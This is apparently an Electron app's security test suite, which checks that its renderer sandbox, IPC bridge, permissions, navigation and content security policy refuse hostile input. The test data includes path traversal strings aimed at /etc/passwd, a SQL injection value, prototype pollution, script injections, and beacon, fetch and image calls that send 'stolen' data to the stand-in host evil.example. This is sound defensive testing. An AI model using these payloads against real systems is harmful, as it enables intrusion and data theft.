/** The borders of the page, tried from the inside and from the outside on the shipped bundles. */
import { afterAll, beforeAll, expect, test } from 'vitest'
import { requests } from '../../electron/contract/requests.ts'
import { launchDesk, onRealElectron } from '../support/desk.ts'
import type { Desk } from '../support/desk.ts'

const EVIL = 'https://evil.example/'
let desk: Desk

beforeAll(async () => {
  desk = await launchDesk()
  await desk.idle()
})
afterAll(() => desk.close())

test('the whole start asks nothing of the network and breaks nothing in the page', async () => {
  const origins = await desk.page.evaluate(() => [
    location.origin,
    ...performance.getEntriesByType('resource').map((entry) => new URL(entry.name).origin),
  ])
  expect(new Set(origins).size).toBe(1)
  expect(origins.length).toBeGreaterThan(3)
  expect(desk.errors).toEqual([])
  const outside = await desk.app.evaluate(() => {
    const standin = (globalThis as { __standin?: { calls: { api: string; args: unknown[] }[] } }).__standin
    return standin?.calls
      .filter(({ api }) => api === 'network' || api === 'request.cancelled')
      .map(({ args }) => args[0])
  })
  expect(outside ?? []).toEqual([])
})

test('the page has no Node and no Electron, only window.loket with its two functions', async () => {
  const found = await desk.page.evaluate(() =>
    ['require', 'process', 'module', 'Buffer', 'global', 'ipcRenderer', 'electron'].filter((name) => name in window),
  )
  expect(found).toEqual([])
  expect(await desk.page.evaluate(() => Object.keys(loket).sort())).toEqual(['on', 'request'])
})

test('window.loket can be neither changed nor replaced', async () => {
  const kept = await desk.page.evaluate(async () => {
    const before = loket
    const attempts = [
      () => Object.assign(loket, { request: () => 'stolen' }),
      () => Object.assign(window, { loket: {} }),
      () => Object.defineProperty(window, 'loket', { value: {} }),
      () => Reflect.deleteProperty(window, 'loket'),
    ]
    for (const attempt of attempts) {
      try {
        attempt()
      } catch {
        // Refused, as it should be.
      }
    }
    const state = await loket.request('shell.environment', {})
    return before === loket && state.ok
  })
  expect(kept).toBe(true)
})

test('prototype pollution in the page does not reach the preload', async () => {
  const other = await launchDesk()
  try {
    const result = await other.page.evaluate(async () => {
      const hostile = () => ['stolen']
      const originals = [
        Array.prototype.map,
        Array.prototype.push,
        Map.prototype.get,
        JSON.stringify,
        JSON.parse,
      ] as const
      Object.assign(Array.prototype, { map: hostile, push: hostile })
      Object.assign(Map.prototype, { get: hostile })
      Object.assign(JSON, { stringify: hostile, parse: hostile })
      try {
        return await loket.request('shell.environment', {})
      } finally {
        const [map, push, get, stringify, parse] = originals
        Object.assign(Array.prototype, { map, push })
        Object.assign(Map.prototype, { get })
        Object.assign(JSON, { stringify, parse })
      }
    })
    expect(result).toMatchObject({ ok: true, value: { version: '0.1.0' } })
  } finally {
    await other.close()
  }
})

test('the preload forwards no event of Electron, and no event that is not in the contract', async () => {
  const errors = await desk.page.evaluate(() => {
    const listen = loket.on as unknown as (name: unknown, listener: unknown) => unknown
    return ['loket:event', '__proto__', 'constructor', 'sync.status '].map((name) => {
      try {
        listen(name, () => undefined)
        return `${name} was accepted`
      } catch (error) {
        return error instanceof Error ? 'refused' : 'odd'
      }
    })
  })
  expect(new Set(errors)).toEqual(new Set(['refused']))
  await desk.page.evaluate(() => {
    Object.assign(window, { heard: [] as unknown[] })
    const heard = (window as unknown as { heard: unknown[] }).heard
    loket.on('menu.command', (...args: unknown[]) => void heard.push(args))
  })
  await desk.app.evaluate(({ Menu }) => Menu.getApplicationMenu()?.getMenuItemById('palet')?.click())
  const heard = await desk.page.waitForFunction(() => {
    const list = (window as unknown as { heard: unknown[] }).heard
    return list.length > 0 ? list : null
  })
  expect(await heard.jsonValue()).toEqual([[{ command: 'palet' }]])
  await desk.page.keyboard.press('Escape')
})

test('every channel refuses a foreign, a look-alike, a sub-frame and a vanished sender, for every request', async () => {
  const names = Object.keys(requests)
  const verdicts = await desk.app.evaluate(async ({ ipcMain }, names) => {
    type Handlers = Map<string, (event: object, ...args: unknown[]) => Promise<unknown>>
    const handlers = (ipcMain as unknown as { _invokeHandlers: Handlers })._invokeHandlers
    const frame = (url: string, parent: object | null) => ({
      senderFrame: { url, origin: new URL(url).origin, parent },
    })
    const senders: Record<string, object> = {
      foreign: frame('https://evil.example/', null),
      lookAlike: frame('app://desk.evil.example/', null),
      otherHost: frame('app://deks/', null),
      withUser: frame('app://user@desk/', null),
      otherScheme: frame('file:///desk/index.html', null),
      subFrame: frame('app://desk/', frame('app://desk/', null)),
      vanished: { senderFrame: null },
    }
    const verdicts: string[] = []
    for (const [channel, handler] of handlers) {
      for (const [label, event] of Object.entries(senders)) {
        for (const name of names) {
          const answer = (await handler(event, name, {}).catch(() => 'thrown')) as { failure?: { kind?: string } }
          verdicts.push(`${channel} ${label} ${answer.failure?.kind ?? 'accepted'}`)
        }
      }
    }
    return verdicts
  }, names)
  expect(verdicts).toHaveLength(7 * names.length)
  expect(verdicts.filter((verdict) => !verdict.endsWith(' forbidden'))).toEqual([])
})

test('a name outside the contract and arguments outside the schema are refused as values', async () => {
  const answers = await desk.page.evaluate(async () => {
    const ask = loket.request as unknown as (name: unknown, args?: unknown) => Promise<{ failure?: { kind: string } }>
    const calls: [unknown, unknown][] = [
      ['open', {}],
      ['__proto__', {}],
      ['constructor', {}],
      ['toString', {}],
      ['shell.setTheme', { tema: 'ungu' }],
      ['shell.setTheme', null],
      ['pengaduan.list', { limit: 1e9 }],
      ['draf.get', { id: "1' OR 1=1" }],
    ]
    return Promise.all(calls.map(async ([name, args]) => (await ask(name, args)).failure?.kind))
  })
  expect(answers).toEqual([
    'forbidden',
    'forbidden',
    'forbidden',
    'forbidden',
    'invalid',
    'invalid',
    'invalid',
    'invalid',
  ])
  const thrown = await desk.page.evaluate(() =>
    (loket.request as unknown as (name: unknown) => Promise<unknown>)({ toString: () => 'app.state' }).then(
      () => 'accepted',
      () => 'refused',
    ),
  )
  expect(thrown).toBe('refused')
})

test('app:// serves the renderer and nothing outside it, however the path is spelt', async () => {
  const answers = await desk.app.evaluate(async ({ BrowserWindow }) => {
    const { session } = BrowserWindow.getAllWindows()[0]?.webContents ?? {}
    const spellings = [
      'app://desk/../main/main.js',
      'app://desk/..%2fmain/main.js',
      'app://desk/%2e%2e/main/main.js',
      'app://desk/%2e%2e%2fmain%2fmain.js',
      'app://desk/.%2e/preload/preload.cjs',
      'app://desk/..%5cmain%5cmain.js',
      'app://desk/..%5c..%5cpackage.json',
      'app://desk/assets/..%2f..%2f..%2fpackage.json',
      'app://desk/%252e%252e/main/main.js',
      'app://desk//etc/passwd',
      'app://desk/%2fetc%2fpasswd',
      'app://desk/C:%5cWindows%5cwin.ini',
      'app://desk/index.html:$DATA',
      'app://desk/index.html%00.js',
      'app://desk/%E0%A4%A',
      'app://desk.evil.example/index.html',
      'app://user@desk/index.html',
      'app://other/index.html',
    ]
    const status = async (url: string) => (await session?.fetch(url).catch(() => null))?.status ?? 0
    const own = await status('app://desk/')
    return {
      own,
      leaks: (await Promise.all(spellings.map(async (url) => [url, await status(url)] as const))).filter(
        ([, code]) => code === 200,
      ),
    }
  })
  expect(answers).toEqual({ own: 200, leaks: [] })
})

test('every kind of permission is denied', async () => {
  const names = [
    'clipboard-read',
    'display-capture',
    'fullscreen',
    'geolocation',
    'idle-detection',
    'media',
    'mediaKeySystem',
    'midi',
    'midiSysex',
    'notifications',
    'pointerLock',
    'keyboardLock',
    'openExternal',
    'speaker-selection',
    'storage-access',
    'top-level-storage-access',
    'window-management',
    'fileSystem',
    'hid',
    'serial',
    'usb',
    'unknown',
  ]
  const granted = onRealElectron ? await grantedInPage(names) : await grantedByHandlers(names)
  expect(granted).toEqual([])
})

/** Asks all four handlers, as Electron would. */
function grantedByHandlers(names: readonly string[]): Promise<string[]> {
  return desk.app.evaluate(async ({ BrowserWindow }, names) => {
    type Verdict = (...args: unknown[]) => unknown
    type Handlers = Record<'_permissionRequest' | '_permissionCheck' | '_devicePermission' | '_displayMedia', Verdict>
    const session = BrowserWindow.getAllWindows()[0]?.webContents.session as unknown as Handlers
    const asked = (name: string) =>
      new Promise((resolve) =>
        session._permissionRequest({}, name, resolve, { requestingUrl: 'app://desk/', mediaTypes: ['audio'] }),
      )
    const granted: string[] = []
    for (const name of names) {
      if (await asked(name)) granted.push(`request ${name}`)
      if (session._permissionCheck({}, name, 'app://desk', {})) granted.push(`check ${name}`)
      if (session._devicePermission({ deviceType: name })) granted.push(`device ${name}`)
    }
    const streams = await new Promise((resolve) => session._displayMedia({}, resolve))
    if (Object.keys(streams as object).length > 0) granted.push('display media')
    return granted
  }, names)
}

test.skipIf(onRealElectron)('a camera opens for our own page alone, and never with a microphone', async () => {
  const answers = await desk.app.evaluate(async ({ BrowserWindow }) => {
    type Verdict = (...args: unknown[]) => unknown
    const session = BrowserWindow.getAllWindows()[0]?.webContents.session as unknown as Record<string, Verdict>
    const asked = (requestingUrl: string, mediaTypes: readonly string[]) =>
      new Promise((resolve) => session['_permissionRequest']?.({}, 'media', resolve, { requestingUrl, mediaTypes }))
    const check = (origin: string, mediaType: string) =>
      session['_permissionCheck']?.({}, 'media', origin, { mediaType })
    return {
      own: [await asked('app://desk/', ['video']), check('app://desk/', 'video')],
      refused: [
        await asked('app://desk/', ['video', 'audio']),
        await asked('app://desk/', []),
        await asked('app://desk.example/', ['video']),
        await asked('https://contoh.invalid/', ['video']),
        check('app://desk/', 'audio'),
        check('https://contoh.invalid/', 'video'),
      ],
    }
  })
  expect(answers).toEqual({ own: [true, true], refused: [false, false, false, false, false, false] })
})

/** Asks Chromium in the page; names it does not know are refused by it. */
function grantedInPage(names: readonly string[]): Promise<string[]> {
  return desk.page.evaluate(async (names) => {
    const query = async (name: string) => {
      const answer = await navigator.permissions.query({ name: name as PermissionName }).catch(() => null)
      return answer?.state === 'granted' ? [name] : []
    }
    return (await Promise.all(names.map(query))).flat()
  }, names)
}

test('the page cannot leave, and cannot open another window', async () => {
  const before = desk.page.url()
  for (const target of [
    EVIL,
    'file:///etc/passwd',
    'data:text/html,x',
    'app://desk.evil.example/',
    'javascript:document.title=1',
  ]) {
    await desk.page.evaluate((url) => void (location.href = url), target)
    await desk.page.waitForTimeout(60)
  }
  await desk.page.evaluate((url) => {
    const form = Object.assign(document.createElement('form'), { action: url, method: 'post' })
    document.body.append(form)
    form.submit()
    form.remove()
  }, EVIL)
  await desk.page.waitForTimeout(100)
  expect(desk.page.url()).toBe(before)
  expect(await desk.page.evaluate(() => [document.title, typeof loket])).toEqual(['Loket Aduan', 'object'])
  expect(await desk.page.evaluate((url) => window.open(url), EVIL)).toBeNull()
  await desk.page.evaluate((url) => {
    const link = Object.assign(document.createElement('a'), { href: url, target: '_blank' })
    document.body.append(link)
    link.click()
    link.remove()
  }, EVIL)
  await desk.page.waitForTimeout(100)
  expect(await desk.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
})

test('what is not our own page is cancelled before it leaves, whoever asks', async () => {
  const answers = await desk.app.evaluate(async ({ BrowserWindow }) => {
    const session = BrowserWindow.getAllWindows()[0]?.webContents.session
    const addresses = [
      'https://evil.example/',
      'http://127.0.0.1:9/',
      'file:///etc/passwd',
      'app://other/',
      'blob:https://evil.example/1',
    ]
    const ask = (url: string) =>
      session?.fetch(url).then(
        (r) => String(r.status),
        (error: unknown) => String(error),
      )
    return Promise.all(addresses.map(ask))
  })
  for (const answer of answers) expect(answer).toContain('ERR_BLOCKED_BY_CLIENT')
})

test('the content security policy is sent and holds', async () => {
  const headers = await desk.app.evaluate(async ({ BrowserWindow }) => {
    const response = await BrowserWindow.getAllWindows()[0]?.webContents.session.fetch('app://desk/')
    return Object.fromEntries(response?.headers ?? [])
  })
  expect(headers['content-security-policy']).toContain(
    "default-src 'none'; script-src 'self'; style-src 'self' 'unsafe-inline'",
  )
  expect(headers['x-content-type-options']).toBe('nosniff')
  const { page } = desk
  await page.evaluate((evil) => {
    const seen: string[] = []
    Object.assign(window, { seen })
    addEventListener('securitypolicyviolation', (event) => void seen.push(event.effectiveDirective))
    const add = <K extends keyof HTMLElementTagNameMap>(tag: K, props: Partial<HTMLElementTagNameMap[K]>) => {
      const element = Object.assign(document.createElement(tag), props)
      document.body.append(element)
      return element
    }
    add('script', { src: 'data:text/javascript,window.broken=1' })
    add('script', { textContent: 'window.broken=2' })
    add('div', { innerHTML: '<img src="missing" onerror="window.broken=3">' })
    add('iframe', { src: evil })
    add('object', {}).setAttribute('data', evil)
    add('img', { src: `${evil}?stolen` })
    add('base', { href: evil })
    add('a', { href: 'javascript:window.broken=4' }).click()
    fetch(evil).catch(() => undefined)
    navigator.sendBeacon(evil, 'stolen')
    for (const risky of [() => new WebSocket('wss://evil.example'), () => new Worker('data:text/javascript,1')]) {
      try {
        risky()
      } catch {
        // Refused at once.
      }
    }
  }, EVIL)
  const expected = [
    'script-src-elem',
    'script-src-attr',
    'frame-src',
    'object-src',
    'img-src',
    'base-uri',
    'connect-src',
    'worker-src',
  ]
  await page.waitForFunction(
    (all) => all.every((directive) => (window as unknown as { seen: string[] }).seen.includes(directive)),
    expected,
    { timeout: 10_000 },
  )
  expect(await page.evaluate(() => (window as unknown as { broken?: number }).broken)).toBeUndefined()
  // In a turn of its own: the inspector's evaluation is allowed what the page is not.
  const evaluated = await page.evaluate(
    () =>
      new Promise((resolve) => {
        setTimeout(() => {
          try {
            resolve(new Function('return 1')())
          } catch {
            resolve('blocked')
          }
        })
      }),
  )
  expect(evaluated).toBe('blocked')
})

test('logs of the shell and the core name no path of a person and nothing that was typed', async () => {
  const lines = desk
    .output()
    .split('\n')
    .filter((line) => line.startsWith('{'))
  expect(lines.length).toBeGreaterThan(1)
  expect(lines.join('\n')).not.toMatch(/evil|OR 1=1|ungu/)
})
